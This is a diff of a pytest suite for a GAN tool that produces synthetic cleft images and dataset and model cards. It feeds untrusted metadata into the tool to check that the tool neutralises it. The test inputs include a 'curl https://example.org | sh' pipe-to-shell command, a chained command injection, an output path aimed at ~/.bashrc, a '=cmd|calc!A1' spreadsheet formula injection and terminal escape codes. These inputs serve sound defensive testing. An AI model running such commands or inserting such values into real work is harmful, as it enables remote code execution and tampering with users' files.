@@ -3,7 +3,7 @@ import csv, io, json, re, shlex, shutil, sys
 from html.parser import HTMLParser
 from pathlib import Path
 import numpy as np, pytest
-from hypothesis import given, settings, strategies as st
+from hypothesis import example, given, settings, strategies as st
 from PIL import Image
 from cleftgan_nb import checkpoints, cli, foreign, networks, report
 from cleftgan_nb.data import cards
@@ -34,6 +34,7 @@ def plain(text, allowed=()):
 
 @settings(max_examples=150, deadline=None)
 @given(st.text(st.sampled_from('ab_*`~[]()<>!&;|\\$#"\'{}:=+-. \n\x1b\u202eé'), min_size=1, max_size=14))
+@example(' : ')
 def test_any_words_stay_words(text):
     shown = lambda t: ''.join(o.content for o in tokens(t) if o.type in ('text', 'text_special', 'code_inline'))
     same = lambda a, b: ' '.join(a.split()) == ' '.join(b.split())
@@ -47,7 +48,7 @@ def test_any_words_stay_words(text):
 def dataset(tmp_path_factory):
     "A stranger's dataset"
     rows = [(np.full((4, 4), i, np.uint8), None, {'note': BAD.replace('\n', ' ').replace('\x1b', ''), 'name': '=cmd|calc!A1', '@col': "'-1", 'age': 1.*i, 'sex': '$\\bad{$'}) for i in range(6)]
-    return write_dataset(tmp_path_factory.mktemp('set')/'cleft.zip', rows, about=dict(kind=BAD, licence=BAD, command=BAD, synthetic=True, more={BAD: [BAD]}))
+    return write_dataset(tmp_path_factory.mktemp('set')/'cleft.zip', rows, about=dict(kind=BAD, license=BAD, command=BAD, synthetic=True, more={BAD: [BAD]}))
 
 def test_data_cards(tmp_path, dataset):
     page = tmp_path/'card.md'
@@ -56,16 +57,16 @@ def test_data_cards(tmp_path, dataset):
     assert plain(re.sub('<!--.*?-->', '', text), ['image']) and 'example.org' in text and re.findall(r'(?<!\\)\]\((.*?)\)', text) == ['card/people.png'] and cards.stale(filled, dataset) == [] and len(cards.find_blocks(text, page, cards.BLOCKS)) == 2
 
 @pytest.mark.parametrize('command', [BAD, 'cleftgan cohort cleft --n 9 --size 16 --seed 0; curl https://example.org | sh', 'curl https://example.org | sh', 'cleftgan cohort cleft --n 9 --size 16 --seed 0 \n```\n# Heading',
-                                     'cleftgan train x --set licence=CC0-1.0', 'cleftgan cohort cleft --n 9 --size 16 --seed 0 --out ~/.bashrc', ['cleftgan'], 7])
+                                     'cleftgan train x --set license=CC0-1.0', 'cleftgan cohort cleft --n 9 --size 16 --seed 0 --out ~/.bashrc', ['cleftgan'], 7])
 def test_only_the_command_of_a_cohort_is_repeated(tmp_path, command):
-    path = write_dataset(tmp_path/'x.zip', [(np.zeros((4, 4), np.uint8), None, {})], about=dict(kind='x', licence='x', command=command))
+    path = write_dataset(tmp_path/'x.zip', [(np.zeros((4, 4), np.uint8), None, {})], about=dict(kind='x', license='x', command=command))
     assert cohort_command(path) is None
 
 def test_model_cards(tmp_path, dataset, file):
     G, D = networks.build('stylegan2', 16, channel_base=128, channel_max=8, z_dim=8, w_dim=8)
     began = dict(file=BAD, sha256=BAD, kimg=1.)
-    meta = dict(file='x', licence=BAD, progress=dict(kimg=1., augment_p=.1), provenance=dict(version=BAD, images=BAD, started_from=began))
-    config = Config(f'there/{BAD}', BAD, network='stylegan2', resume_from=BAD, licence=BAD, settings={BAD: BAD})
+    meta = dict(file='x', license=BAD, progress=dict(kimg=1., augment_p=.1), provenance=dict(version=BAD, images=BAD, started_from=began))
+    config = Config(f'there/{BAD}', BAD, network='stylegan2', resume_from=BAD, license=BAD, settings={BAD: BAD})
     shutil.copy(file, tmp_path/'a`b|<b>.safetensors')
     s = Source(tmp_path/'a`b|<b>.safetensors', 'x', 'y'*64, dict(G_ema=G), meta, config, None, dataset, BAD)
     for text in (facts(s), training(s, tmp_path)): assert plain(text) and 'example.org' in text
@@ -132,7 +133,7 @@ def test_wrong_notebooks_and_tables(tmp_path):
 def file(tmp_path_factory):
     "A stranger's checkpoint"
     G, D = networks.build('stylegan2', 16, channel_base=128, channel_max=8, z_dim=8, w_dim=8)
-    return checkpoints.save(tmp_path_factory.mktemp('net')/'net.safetensors', G_ema=G, licence=BAD, provenance={BAD: BAD}, progress={'note': BAD})
+    return checkpoints.save(tmp_path_factory.mktemp('net')/'net.safetensors', G_ema=G, license=BAD, provenance={BAD: BAD}, progress={'note': BAD})
 
 def printed(capsys, *argv):
     code = cli.main(list(map(str, argv)))
@@ -152,14 +153,14 @@ def test_errors(capsys, tmp_path, file):
     for argv in (['info', tmp_path/'x.safetensors'], ['info', f'{tmp_path}/{BAD[:40]}\x1b[2K\n.pkl'], ['train', tmp_path/'run']):
         code, out, err = printed(capsys, *argv)
         assert code == 2 and quiet(err) and err.count('\n') == 1, err
-    (tmp_path/'run/config.yaml').write_text(json.dumps(dict(data='x', licence=BAD)))
+    (tmp_path/'run/config.yaml').write_text(json.dumps(dict(data='x', license=BAD)))
     code, out, err = printed(capsys, 'train', tmp_path/'run', '--show')
     assert code == 0 and quiet(out)
 
 def test_labels_are_words(tmp_path):
-    with pytest.raises(ValueError, match='different words'): write_dataset(tmp_path/'x.zip', [], about=dict(kind='x', licence='x'), label_names=['a\x1b[2K'])
+    with pytest.raises(ValueError, match='different words'): write_dataset(tmp_path/'x.zip', [], about=dict(kind='x', license='x'), label_names=['a\x1b[2K'])
     G, D = networks.build('stylegan2', 16, c_dim=1, channel_base=128, channel_max=8, z_dim=8, w_dim=8)
-    with pytest.raises(ValueError, match='different words'): checkpoints.save(tmp_path/'x.safetensors', G_ema=G, licence='x', provenance={}, progress={}, labels=['a\nb'])
+    with pytest.raises(ValueError, match='different words'): checkpoints.save(tmp_path/'x.safetensors', G_ema=G, license='x', provenance={}, progress={}, labels=['a\nb'])
 
 def test_a_run_is_not_called_by_what_its_file_says(tmp_path):
     (tmp_path/'config.yaml').write_text(json.dumps(dict(network=LINK, kimg=1)))
